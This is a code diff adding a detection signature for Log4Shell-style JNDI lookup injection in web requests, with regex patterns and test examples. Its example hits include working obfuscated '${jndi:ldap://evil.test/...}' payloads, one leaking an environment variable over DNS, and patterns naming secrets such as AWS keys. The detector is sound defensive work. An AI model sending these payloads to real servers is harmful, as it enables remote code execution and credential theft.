@@ -1,0 +1,68 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what is looked for is written so.
+import { type Lookup, lookupsOf } from '../lookups/nested-lookups.ts';
+import { hasAll, marksOf, type Reading } from '../readings/reading.ts';
+import type { Finding, Signature } from '../signature.ts';
+
+const MARKS = marksOf('${:');
+const JNDI = /^\s{0,4}jndi\s{0,4}:/;
+const SCHEME = /^\s{0,4}jndi\s{0,4}:\s{0,4}(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?|ldap)\b/;
+/** Lookups of the same notation that run a script or fetch an address. */
+const ACTIVE =
+  /^\s{0,4}(?:script\s{0,4}:\s{0,4}(?:javascript|js|groovy|jexl|nashorn|python|beanshell)\b|url\s{0,4}:\s{0,4}[\w-]{1,12}:\s{0,4}(?:https?|file|ftp|jar):|dns:(?:address|name|canonicalname)\|)/;
+/** A disguised lookup whose end was cut off, or that hides in a way no library undoes. */
+const SPELLED = /jndi|ldap|rmi:|\bj?n?d?i?:\/\//;
+const FEWEST_DISGUISES = 2;
+const SUREST = 0.98;
+/** Values of the server itself. */
+const SERVER_VALUE = /^\s{0,4}(?:env|sys|java|main|bundle|hostname|log4j|ctx|web|docker|k8s|spring)\s{0,4}:\s{0,4}\w/;
+const SECRET = /secret|passw|token|access_?key|api_?key|credential|aws_|database_url/;
+
+/** Lookups that a logging library follows to a foreign server (`${jndi:ldap://…}`), however they are nested. */
+export const jndiLookup: Signature = {
+  type: 'jndi_lookup',
+  mitre: 'T1190',
+  impact: [35, 45],
+  examples: {
+    hits: [
+      '${jndi:ldap://evil.test/a}',
+      '${${lower:j}ndi:${lower:l}dap://evil.test/a}',
+      '${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://evil.test/a}',
+      '${${env:NOTHING:-j}ndi${env:NOTHING:-:}${upper:l}dap://evil.test}',
+      '${script:javascript:1+1}',
+      '${jnd${upper:\u0131}:dns://evil.test}',
+      { headers: { 'user-agent': '${jndi:dns://evil.test/${env:USER}}' } },
+      { headers: { 'x-api-version': '${env:AWS_SECRET_ACCESS_KEY}' } },
+    ],
+    misses: [
+      '${user.name}',
+      '${a:-default}',
+      { body: '{"path":"${env:HOME}/bin","dir":"${sys:user.dir}"}', contentType: 'application/json' },
+      'Log4Shell was about JNDI and ldap: update now',
+      '${{ env.TOKEN }}',
+    ],
+  },
+  couldMatch(reading: Reading): boolean {
+    return hasAll(reading, MARKS) && reading.text.includes('${');
+  },
+  match(reading: Reading): Finding | null {
+    let best: Finding | null = null;
+    for (const lookup of lookupsOf(reading.text)) {
+      const found = judge(lookup, reading);
+      if (found !== null && found.confidence > (best?.confidence ?? 0)) best = found;
+      if (best !== null && best.confidence >= SUREST) break;
+    }
+    return best;
+  },
+};
+
+function judge({ text, disguises, at }: Lookup, { leaf }: Reading): Finding | null {
+  if (JNDI.test(text)) return { pattern: 'JNDI lookup', confidence: SCHEME.test(text) ? 0.98 : 0.92, at };
+  if (ACTIVE.test(text)) return { pattern: 'active lookup', confidence: 0.93, at };
+  if (disguises >= FEWEST_DISGUISES) {
+    return { pattern: 'disguised lookup', confidence: SPELLED.test(text) ? 0.9 : 0.7, at };
+  }
+  if (!SERVER_VALUE.test(text)) return null;
+  const exposed = leaf.kind === 'query' || leaf.kind === 'header' || leaf.kind === 'path' || leaf.kind === 'cookie';
+  if (!exposed) return null;
+  return { pattern: 'lookup of a server value', confidence: SECRET.test(text) ? 0.8 : 0.6, at };
+}
